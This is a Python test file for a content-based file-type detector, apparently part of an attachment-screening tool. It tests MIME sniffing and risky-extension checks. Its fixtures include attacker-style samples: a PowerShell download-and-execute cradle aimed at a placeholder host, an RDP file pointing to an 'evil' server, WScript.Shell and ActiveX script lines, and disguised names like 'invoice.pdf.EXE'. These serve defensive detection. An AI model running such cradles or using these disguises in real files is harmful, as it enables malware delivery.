"""What a file is, is told by its content; its name only breaks ties."""

import io
import struct
import tarfile
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from submissions.extraction import type_of_text
from submissions.extraction.file_types import detect, extension, risky_extension
from tests.extraction.compound_file import compound_file


def zipped(*names: str, content_types: str = "") -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        if content_types:
            archive.writestr("[Content_Types].xml", f'<Types><Override ContentType="{content_types}"/></Types>')
        for name in names:
            archive.writestr(name, b"x")
    return packed.getvalue()


def taken() -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"), io.BytesIO(b""))
    return packed.getvalue()


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "application/x-empty"),
        (b"%PDF-1.7\n", "application/pdf"),
        (b"\x00\x01junk before\n%PDF-1.4\n", "application/pdf"),
        (b"{\\rtf1 hello}", "application/rtf"),
        (b"{\\rt hello}", "application/rtf"),
        (b"MZ" + bytes(100), "application/x-dosexec"),
        (b"MZ" + bytes(100) + b"xlAutoOpen\x00", "application/x-ms-xll"),
        (b"Rar!\x1a\x07\x01\x00", "application/x-rar"),
        (b"7z\xbc\xaf\x27\x1c" + bytes(26), "application/x-7z-compressed"),
        (b"MSCF" + bytes(40), "application/vnd.ms-cab-compressed"),
        (bytes(0x8001) + b"CD001" + bytes(100), "application/x-iso9660-image"),
        (bytes(1024) + b"conectix" + bytes(504), "application/x-vhd"),
        (b"\x4c\x00\x00\x00\x01\x14\x02\x00" + bytes(70), "application/x-ms-shortcut"),
        (bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(100), "application/onenote"),
        (b"\x78\x9f\x3e\x22\x00\x00", "application/vnd.ms-tnef"),
        (bytes.fromhex("308206b906092a864886f70d010702a08206aa308206a6020101"), "application/pkcs7-signature"),
        (bytes.fromhex("308006092a864886f70d010703a080308002010031"), "application/pkcs7-mime"),
        (b"\x01\x00\x00\x00" + bytes(36) + b" EMF" + bytes(60), "image/emf"),
        (b"\xd7\xcd\xc6\x9a" + bytes(40), "image/wmf"),
        (taken(), "application/x-tar"),
        (zipped("a.txt"), "application/zip"),
        (zipped("META-INF/MANIFEST.MF", "A.class"), "application/java-archive"),
        (zipped("word/document.xml"), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (
            zipped("x", content_types="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
            "application/vnd.ms-excel.sheet.macroenabled.12",
        ),
        (compound_file({"WordDocument": b"x"}), "application/msword"),
        (compound_file({"Workbook": b"x"}), "application/vnd.ms-excel"),
        (compound_file({"EncryptedPackage": b"x"}), "application/encrypted"),
        (compound_file({"__properties_version1.0": bytes(32)}), "application/vnd.ms-outlook"),
        (compound_file({"unheard of": b"x"}), "application/x-ole-storage"),
        (b"Received: by mx\r\nFrom: a@b.example\r\n\r\nhello", "message/rfc822"),
        (b'Content-Type: multipart/mixed; boundary="a"\n\n--a\n', "message/rfc822"),
        (b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n", "text/calendar"),
        (b"<!doctype html><p>hello", "text/html"),
        (b"\xef\xbb\xbf  <!-- note --> <html><body>", "text/html"),
        ("<html><script>x</script></html>".encode("utf-16"), "text/html"),
        (b"<html><head><hta:application id=x></head></html>", "application/hta"),
        (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "image/svg+xml"),
        (b"[InternetShortcut]\r\nURL=http://a.example/\r\n", "application/x-mswinurl"),
        (b"WEB\r\n1\r\nhttp://a.example/q\r\n", "text/x-ms-iqy"),
        (b"ID;PWXL;N;E\r\n", "application/x-sylk"),
        (b"full address:s:rdp.evil.example\r\n", "application/x-rdp"),
        (b'Set shell = CreateObject("WScript.Shell")\r\n', "text/vbscript"),
        (b'var a = new ActiveXObject("WScript.Shell");', "text/javascript"),
        (b"@echo off\r\nstart calc.exe\r\n", "text/x-msdos-batch"),
        (b"IEX (New-Object Net.WebClient).DownloadString('http://a.example')", "text/x-powershell"),
        (b"Just a few words.", "text/plain"),
        (b"\x8f\x01\xfe\x93" * 50, "application/octet-stream"),
    ],
)
def test_it_tells_the_type_by_the_content(content: bytes, expected: str) -> None:
    assert detect(content) == expected


def test_a_name_decides_only_where_the_content_says_nothing() -> None:
    assert detect(b"a = 1", "run.js") == "text/javascript"
    assert detect(b"%PDF-1.7\n", "picture.png") == "application/pdf"
    assert detect(b"Subject: only one header\n\nbody", "mail.eml") == "message/rfc822"
    assert detect(b"Subject: only one header\n\nbody", "mail.txt") == "text/plain"


def test_a_damaged_compound_file_is_told_by_the_names_in_it() -> None:
    damaged = compound_file({"WordDocument": b"x"})[:-600] + "WordDocument".encode("utf-16-le") + bytes(4)
    damaged = damaged[:44] + struct.pack("<I", 0xFFFFFFF0) + damaged[48:]

    assert detect(damaged) == "application/msword"


def test_the_extension_is_the_one_that_windows_sees() -> None:
    assert extension("invoice.pdf.EXE . ") == "exe"
    assert extension("invoice.scr\u200b") == "scr"
    assert extension(".bashrc") == ""
    assert extension("no extension") == ""


def test_names_that_run_or_open_something_are_risky() -> None:
    assert risky_extension("invoice.pdf.js")
    assert risky_extension("disk.ISO")
    assert not risky_extension("photo.jpeg")


@given(st.binary(max_size=600), st.text(max_size=20))
def test_no_bytes_and_no_name_make_it_fail(content: bytes, name: str) -> None:
    assert "/" in detect(content, name)


@given(
    st.sampled_from([b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"<html", b"From: "]), st.binary(max_size=900)
)
def test_no_rest_behind_a_known_beginning_makes_it_fail(start: bytes, rest: bytes) -> None:
    assert "/" in detect(start + rest)


def test_the_words_before_the_patterns_of_texts_are_spelled_as_they_are_looked_for() -> None:
    for words, pattern, _ in type_of_text.ANYWHERE + type_of_text.SCRIPTS:
        assert words == words.lower(), pattern


@pytest.mark.parametrize(
    ("text", "mime_type"),
    [
        ("@ECHO OFF\r\nstart calc", "text/x-msdos-batch"),
        ("rem\r\nSET shell = CREATEOBJECT(1)", "text/vbscript"),
        ("x = NEW ActiveXObject('a')", "text/javascript"),
        ("\nFunction run () {}", "text/javascript"),
        ("a\nset-EXECUTIONPOLICY bypass", "text/x-powershell"),
        ("a\nAlternate Full Address:s:host.example", "application/x-rdp"),
        ("<PCSETTINGS>", "application/windows-settings-content+xml"),
    ],
)
def test_the_case_of_a_script_says_nothing(text: str, mime_type: str) -> None:
    assert detect(text.encode()) == mime_type
